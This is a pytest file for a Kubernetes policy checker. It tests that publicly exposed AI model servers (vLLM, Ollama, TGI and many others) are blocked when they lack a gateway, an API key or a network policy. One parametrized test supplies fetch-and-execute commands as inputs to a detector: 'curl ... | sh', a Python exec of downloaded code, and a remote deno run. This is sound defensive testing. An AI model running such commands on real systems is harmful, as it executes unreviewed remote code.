"""Servers of models that are not ours, without an accelerator request: each is known by image,
program, shell script or its own variables.
"""

from __future__ import annotations

import copy
from typing import Any

import pytest

from inferplan.planning.policy_check import stack_of
from inferplan.policies.engine.report import check_stack
from inferplan.policies.engine.settings import Settings
from tests.policies.cases import base, recording_of

DIGEST = "@sha256:" + "1" * 64
# Image, command and arguments, and whether the server takes a key of its own.
SERVERS: dict[str, tuple[str, list[str], list[str], bool]] = {
    "vllm": ("vllm/vllm-openai", ["vllm", "serve"], ["/models/m"], True),
    "ollama": ("ollama/ollama", [], ["serve"], False),
    "ollama-copy": ("registry.acme.example/mirror/ollama", [], [], False),
    "ollama-shell": (
        "registry.acme.example/base",
        ["sh", "-c"],
        ["sleep 1 && exec /usr/bin/ollama serve"],
        False,
    ),
    "tgi": ("ghcr.io/huggingface/text-generation-inference", [], ["--model-id=/models/m"], True),
    "tgi-launcher": (
        "registry.acme.example/llm",
        ["text-generation-launcher"],
        ["--model-id", "/models/m"],
        True,
    ),
    "sglang": (
        "lmsysorg/sglang",
        ["python3", "-m", "sglang.launch_server"],
        ["--model-path", "/models/m"],
        True,
    ),
    "llama.cpp": ("ghcr.io/ggml-org/llama.cpp", [], ["-m", "/models/m.gguf", "--host", "::"], True),
    "llama-server": (
        "registry.acme.example/cpu",
        ["/app/llama-server"],
        ["-m", "/models/m.gguf"],
        True,
    ),
    "tei": ("ghcr.io/huggingface/text-embeddings-inference", [], ["--model-id", "/models/m"], True),
    "nim": ("nvcr.io/nim/meta/llama-3.1-8b-instruct", [], [], False),
    "nim-copy": ("registry.acme.example/nim-llama3", [], [], False),
    "dynamo": (
        "nvcr.io/nvidia/ai-dynamo/vllm-runtime",
        ["python3", "-m", "dynamo.frontend"],
        [],
        False,
    ),
    "litellm": ("ghcr.io/berriai/litellm", [], ["--config", "/app/config.yaml"], True),
    "triton": (
        "nvcr.io/nvidia/tritonserver",
        ["tritonserver"],
        ["--model-repository=/models"],
        False,
    ),
    "lmdeploy": ("openmmlab/lmdeploy", ["lmdeploy", "serve", "api_server"], ["/models/m"], True),
    "localai": ("localai/localai", [], ["run", "/models"], True),
    "kserve": ("kserve/huggingfaceserver", [], ["--model_dir=/models/m"], False),
    "infinity": ("michaelf34/infinity", [], ["v2", "--model-id", "/models/m"], True),
    "xinference": ("xprobe/xinference", ["xinference-local"], ["-H", "::"], True),
    "tabbyapi": ("ghcr.io/theroyallab/tabbyapi", [], [], False),
    "aphrodite": ("alpindale/aphrodite-openai", [], ["--model", "/models/m"], True),
    "mlc": ("mlcai/mlc-llm", ["mlc_llm", "serve"], ["/models/m"], False),
    "mii": (
        "registry.acme.example/mii",
        ["python", "-m", "mii.entrypoints.openai_api_server"],
        [],
        False,
    ),
    "bentoml": ("registry.acme.example/service", ["bentoml", "serve"], ["service:svc"], False),
    "torchserve": (
        "pytorch/torchserve",
        ["torchserve"],
        ["--start", "--model-store=/models"],
        False,
    ),
    "tf-serving": ("tensorflow/serving", [], ["--model_base_path=/models"], False),
    "openvino": ("openvino/model_server", [], ["--model_path=/models/m"], True),
    "whisper": ("ghcr.io/speaches-ai/speaches", [], [], True),
    "ray-serve": (
        "rayproject/ray",
        ["serve"],
        ["run", "--route-prefix", "/", "app:app"],
        False,
    ),
    "mlserver": ("seldonio/mlserver", ["mlserver", "start", "/models"], [], False),
    "koboldcpp": ("koboldai/koboldcpp", ["python3", "koboldcpp.py"], ["--model", "/m.gguf"], True),
    "mistral.rs": (
        "ghcr.io/ericlbuehler/mistral.rs",
        ["mistralrs-server"],
        ["--port", "80"],
        False,
    ),
    "text-generation-webui": (
        "atinoda/text-generation-webui",
        ["python3", "server.py"],
        ["--listen", "--api"],
        False,
    ),
    "lemonade": ("ghcr.io/lemonade-sdk/lemonade-server", ["lemonade-server"], ["serve"], True),
    "model-runner": ("docker/model-runner", [], [], False),
    "comfyui": ("yanwk/comfyui-boot", ["python3", "main.py"], ["--listen"], False),
    "router": ("lmcache/lmstack-router", ["vllm-router"], ["--port", "8000"], False),
    "own name": ("registry.acme.example/team/base", [], ["-p", "1"], False),
}
MARKS = {"own name": [{"name": "OLLAMA_KEEP_ALIVE", "value": "24h"}]}


def outcomes(
    image: str,
    command: list[str],
    args: list[str],
    env: list[dict[str, Any]] | None = None,
    *,
    public: str = "Ingress",
    accelerated: bool = False,
    container: dict[str, Any] | None = None,
    beside: list[tuple[str, dict[str, Any]]] | None = None,
) -> set[str]:
    """The rules that newly block the base stack with one more server, as hardened as the others,
    and a `public` way to its Service.
    """
    (model,) = [
        copy.deepcopy(each)
        for each in base()
        if each["type"].endswith(":Deployment") and each["name"] == "chat"
    ]
    model["name"] = model["inputs"]["metadata"]["name"] = "extra"
    spec = model["inputs"]["spec"]
    labels = {"app.kubernetes.io/name": "extra"}
    spec["selector"] = {"matchLabels": labels}
    spec["template"]["metadata"]["labels"] = labels
    (server,) = spec["template"]["spec"]["containers"]
    server |= {"image": f"{image}{DIGEST}", "command": command, "args": args, "env": env or []}
    server |= container or {}
    for key in [key for key, value in (("command", command), ("args", args)) if not value]:
        del server[key]
    server["resources"] = {
        "requests": {"cpu": "1", "memory": "8Gi"},
        "limits": {"memory": "8Gi"},
    }
    if accelerated:
        for side in server["resources"].values():
            side["nvidia.com/gpu"] = "1"
    else:
        spec["template"]["spec"].pop("nodeSelector", None)
    metadata = {"name": "extra", "namespace": model["inputs"]["metadata"]["namespace"]}
    service: dict[str, Any] = {
        "metadata": metadata,
        "spec": {"selector": labels, "ports": [{"port": 80}]},
    }
    backend = {"service": {"name": "extra", "port": {"number": 80}}}
    rules = [
        {
            "host": "m.acme.example",
            "http": {"paths": [{"path": "/", "pathType": "Prefix", "backend": backend}]},
        }
    ]
    ingress = {
        "metadata": metadata,
        "spec": {
            "ingressClassName": "nginx",
            "tls": [{"hosts": ["m.acme.example"], "secretName": "t"}],
            "rules": rules,
        },
    }
    route = {
        "metadata": metadata,
        "spec": {
            "hostnames": ["m.acme.example"],
            "rules": [
                {"backendRefs": [{"name": "extra", "port": 80}], "timeouts": {"request": "300s"}}
            ],
        },
    }
    if public == "LoadBalancer":
        service["spec"]["type"] = public
    ways = {
        "Ingress": ("kubernetes:networking.k8s.io/v1:Ingress", ingress),
        "HTTPRoute": ("kubernetes:gateway.networking.k8s.io/v1:HTTPRoute", route),
    }
    listed = [("kubernetes:core/v1:Service", service), *([ways[public]] if public in ways else [])]
    listed += [(type_, {"metadata": metadata, "spec": spec}) for type_, spec in beside or ()]
    more = [{"type": type_, "name": "extra", "inputs": inputs} for type_, inputs in listed]
    report = check_stack(
        stack_of(recording_of([*base(), model, *more])), Settings(today="2026-11-21")
    )
    return {each.rule.id for each in report.violations if each.urn.endswith("::extra")}


@pytest.mark.parametrize("name", SERVERS)
def test_a_public_way_to_a_server_without_accelerators_is_blocked(name):
    image, command, args, takes_key = SERVERS[name]
    rules = outcomes(image, command, args, MARKS.get(name))
    assert "stack-require-gateway-before-models" in rules, rules
    assert ("model-require-server-key" in rules) == takes_key, rules


@pytest.mark.parametrize(
    ("port", "path", "is_server"),
    [
        (11434, "/", True),
        (30000, "/", True),
        (8000, "/v2/health/ready", True),
        (8000, "/v1/models", True),
        (8000, "/api/tags", True),
        (8000, "/health", False),
    ],
)
def test_a_server_of_a_companys_own_is_known_by_its_port_or_protocol(port, path, is_server):
    pod = {
        "ports": [{"containerPort": port}],
        "readinessProbe": {"httpGet": {"path": path, "port": port}},
    }
    rules = outcomes("registry.acme.example/team/base", ["/app/start"], [], container=pod)
    assert ("stack-require-gateway-before-models" in rules) is is_server


@pytest.mark.parametrize(("port", "closed"), [(8081, True), (8080, False)])
def test_no_network_policy_opens_the_port_that_administers_a_server(port, closed):
    image, command, args, _ = SERVERS["torchserve"]
    spec = {
        "podSelector": {"matchLabels": {"app.kubernetes.io/name": "extra"}},
        "ingress": [
            {
                "from": [{"podSelector": {"matchLabels": {"app.kubernetes.io/name": "gateway"}}}],
                "ports": [{"port": port}],
            }
        ],
    }
    network = ("kubernetes:networking.k8s.io/v1:NetworkPolicy", spec)
    rules = outcomes(image, command, args, public="", beside=[network])
    assert ("stack-require-policy-before-models" in rules) is closed


@pytest.mark.parametrize(
    ("command", "is_piped"),
    [
        (["npx", "-y", "@acme/server"], True),
        (["pipx", "run", "server"], True),
        (["go", "run", "example.com/server@latest"], True),
        (["deno", "run", "-A", "https://x.example/server.ts"], True),
        (
            ["python3", "-c", "import urllib.request as u; exec(u.urlopen('https://x').read())"],
            True,
        ),
        (["sh", "-c", "curl -s https://x.example/i | sh"], True),
        (["npx", "serve", "build"], False),
        (["python3", "-c", "exec(open('/app/server.py').read())"], False),
    ],
)
def test_a_program_that_is_downloaded_at_start_is_blocked_in_each_form_of_a_command(
    command, is_piped
):
    rules = outcomes("registry.acme.example/team/base", command, [], public="")
    assert ("pod-disallow-piped-programs" in rules) is is_piped


WAYS = [(way, cards) for way in ("Ingress", "HTTPRoute", "LoadBalancer") for cards in (True, False)]


@pytest.mark.parametrize(
    ("name", "way", "accelerated"),
    [
        pytest.param(name, way, cards, marks=() if (place - turn) % 6 == 0 else pytest.mark.full)
        for place, name in enumerate(SERVERS)
        for turn, (way, cards) in enumerate(WAYS)
    ],
)
def test_every_public_way_to_a_server_is_blocked_with_and_without_accelerators(
    name, way, accelerated
):
    image, command, args, _ = SERVERS[name]
    rules = outcomes(image, command, args, MARKS.get(name), public=way, accelerated=accelerated)
    assert not rules.isdisjoint(
        {"stack-require-gateway-before-models", "network-disallow-node-port"}
    )


@pytest.mark.parametrize(
    ("args", "env", "trusts"),
    [
        ([], [], True),
        (["--no-trust-remote-code"], [], False),
        ([], [{"name": "INFINITY_TRUST_REMOTE_CODE", "value": "false"}], False),
        ([], [{"name": "INFINITY_TRUST_REMOTE_CODE", "value": "true"}], True),
    ],
)
def test_a_server_that_trusts_code_by_default_must_be_told_not_to(args, env, trusts):
    rules = outcomes("michaelf34/infinity", [], ["v2", "--model-id", "/models/m", *args], env)
    assert ("model-disallow-trust-remote-code" in rules) is trusts


@pytest.mark.parametrize(
    ("name", "variable"),
    [
        ("sglang", "SGLANG_API_KEY"),
        ("tgi", "API_KEY"),
        ("llama.cpp", "LLAMA_API_KEY"),
        ("litellm", "LITELLM_MASTER_KEY"),
        ("tei", "API_KEY"),
    ],
)
def test_its_own_key_is_enough_for_the_server(name, variable):
    image, command, args, _ = SERVERS[name]
    key = [{"name": variable, "valueFrom": {"secretKeyRef": {"name": "extra-key", "key": "key"}}}]
    assert "model-require-server-key" not in outcomes(image, command, args, key)


@pytest.mark.parametrize(
    ("name", "words", "env"),
    [
        ("torchserve", ["--disable-token-auth"], []),
        ("open webui", [], [{"name": "WEBUI_AUTH", "value": "False"}]),
        ("tabbyapi", ["--disable-auth=true"], []),
    ],
)
def test_a_key_that_is_switched_off_is_blocked(name, words, env):
    image, command, args, _ = SERVERS.get(name, ("ghcr.io/open-webui/open-webui", [], [], False))
    rules = outcomes(image, command, [*args, *words], env)
    assert {"model-require-server-key", "stack-require-gateway-before-models"} <= rules


@pytest.mark.parametrize(
    ("image", "command", "args", "env"),
    [
        ("docker.io/library/nginx", ["nginx"], ["-g", "daemon off;"], []),
        (
            "registry.acme.example/chat-ui",
            [],
            [],
            [{"name": "OLLAMA_HOST", "value": "http://ollama:11434"}],
        ),
        (
            "registry.acme.example/agent",
            ["python", "app.py"],
            [],
            [{"name": "NIM_BASE_URL", "value": "http://nim"}],
        ),
        ("registry.acme.example/minimal-api", [], [], []),
        ("registry.acme.example/ollama-exporter", [], [], []),
        ("registry.acme.example/denim", [], [], []),
        ("ghcr.io/open-webui/open-webui", [], [], []),
        (
            "ghcr.io/berriai/litellm",
            [],
            [],
            [
                {
                    "name": "LITELLM_MASTER_KEY",
                    "valueFrom": {"secretKeyRef": {"name": "k", "key": "k"}},
                }
            ],
        ),
    ],
)
def test_a_program_that_serves_no_model_may_have_an_ingress(image, command, args, env):
    rules = outcomes(image, command, args, env)
    assert rules.isdisjoint({"stack-require-gateway-before-models", "model-require-server-key"})
